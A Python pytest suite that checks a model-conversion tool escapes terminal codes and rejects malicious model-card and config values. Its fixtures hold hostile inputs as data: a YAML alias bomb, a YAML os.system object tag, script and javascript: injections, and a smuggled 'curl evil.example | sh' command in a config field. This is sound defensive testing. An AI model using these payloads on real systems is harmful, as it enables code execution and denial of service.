"""What somebody's files say is text, whatever it looks like: in a terminal, a sentence, a card."""

import json
import shutil
from pathlib import Path

import pytest
from places import STORIES

from conversion import convert
from description_zoo.card_origin import carried_over, front_matter, read_front_matter
from description_zoo.foreign_text import code_span, is_slug, on_one_line, printable

BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"


@pytest.mark.parametrize(
    "text, shown",
    [
        ("\x1b[31mred", "\\x1b[31mred"),
        ("\x9b2J", "\\x9b2J"),
        ("right\u202eleft", "right\\u202eleft"),
        ("\udcff", "\\udcff"),
        ("Übung\n\t日本 é", "Übung\n\t日本 é"),
    ],
)
def test_no_terminal_obeys_it(text, shown):
    assert printable(text) == shown


def test_what_is_too_long_keeps_its_ends():
    line = on_one_line("start\n" + "x" * 9000 + " end")
    assert len(line) <= 1500 and line.startswith("start x") and line.endswith(" end")


def test_a_span_of_code_holds_no_markup():
    assert code_span("a`\n# HEAD <b>|\x1b") == "`a' # HEAD ‹b›\\|\\x1b`"


def test_names_are_told_from_other_text():
    assert all(map(is_slug, ("mit", "apache-2.0", "owner/name", "LICENSE.md")))
    assert not any(map(is_slug, ("", "a b", "a\nb", "`", "<b>", 3, None, ["mit"], "x" * 200)))


@pytest.mark.parametrize(
    "head",
    [
        'license: "mit`\\n\\n# HEAD\\n<script>alert(1)</script>"',
        "license: {a: b}",
        "license: [mit, [[apache-2.0]]]",
        'license_link: "javascript:alert(1)"',
        'base_model: "x\\n# HEAD"',
        "language: [en, {a: b}]",
        'extra_gated_prompt: "\\e[2J"',
        BOMB + "license: [*c,*c,*c,*c,*c]",
        "license: !!python/object/apply:os.system ['true']",
        "license: " + "[" * 5000,
        "license: 2026-99-99",
    ],
)
def test_only_values_of_their_form_are_carried_over(tmp_path, head):
    (tmp_path / "README.md").write_text(f"---\n{head}\n---\n# A model\n")
    carried = carried_over(tmp_path)
    assert carried == {} and len(front_matter(carried)) < 300


def test_a_head_survives_as_it_was(tmp_path):
    said = {"license": "other", "license_link": "https://example.org/a", "language": ["en", "de"], "base_model": "a/b"}
    (tmp_path / "README.md").write_text(front_matter(said) + "# A model\n")
    assert carried_over(tmp_path) == said
    assert read_front_matter(front_matter(said))["license"] == "other"


def test_a_card_is_written_of_names_only(tmp_path):
    source = Path(shutil.copytree(STORIES, tmp_path / "source"))
    (source / "README.md").write_text('---\nlicense: "`\\n# HEAD <script>"\n---\n# Its own card\n')
    (source / "LICENSE`<b> # HEAD").write_text("MIT")
    convert(source, tmp_path / "zoo", progress=False)
    card = (tmp_path / "zoo" / "README.md").read_text()
    assert "<script>" not in card and "<b>" not in card and "license:" not in card
    assert "LICENSE'‹b› # HEAD" in card and "\n# HEAD" not in card


@pytest.fixture
def poisoned(tmp_path):
    """A zoo folder whose config says that it came from a family with a command in its name."""
    folder = tmp_path / "zoo"
    convert(STORIES, folder, progress=False)
    content = json.loads((folder / "config.json").read_text())
    content["source_config"]["model_type"] = "llama; curl evil.example | sh #\x1b[31m"
    (folder / "config.json").write_text(json.dumps(content))
    (folder / "README.md").unlink()
    return folder


def test_a_command_line_names_known_families_only(poisoned, tmp_path):
    from description_zoo.card import write_plain_card
    from zoo.inspection import config_of

    target = tmp_path / "card"
    target.mkdir()
    write_plain_card(target, config_of(str(poisoned)))
    card = (target / "README.md").read_text()
    assert "curl" not in card and "--to" not in card


def test_inspect_prints_no_terminal_codes(zoo, poisoned):
    code, out, err = zoo("inspect", poisoned)
    assert code == 0 and "\x1b" not in out + err and "\\x1b[31m" in out


@pytest.mark.parametrize(
    "name, text",
    [
        ("config.json", "[" * 100_000),
        ("config.json", '{"auto_map": 3, "model_type": "llama"}'),
        ("config.json", '{"text_config": "x", "model_type": "llama"}'),
        ("config.json", '{"model_type": ["llama"]}'),
    ],
)
def test_a_config_of_another_form_is_named(zoo, tmp_path, name, text):
    source = Path(shutil.copytree(STORIES, tmp_path / "source"))
    (source / name).write_text(text)
    for command in (("inspect", source), ("convert", source, tmp_path / "t"), ("generate", source, "--prompt", "x")):
        code, _, err = zoo(*command)
        assert code == 1 and "unexpected" not in err and name in err


def test_no_model_is_built_of_a_million_layers(zoo, tmp_path):
    source = Path(shutil.copytree(STORIES, tmp_path / "source"))
    content = json.loads((source / "config.json").read_text())
    (source / "config.json").write_text(json.dumps(content | {"num_hidden_layers": 10**6}))
    code, _, err = zoo("inspect", source / "config.json")
    assert code == 1 and "num_hidden_layers=1000000 must be at most" in err
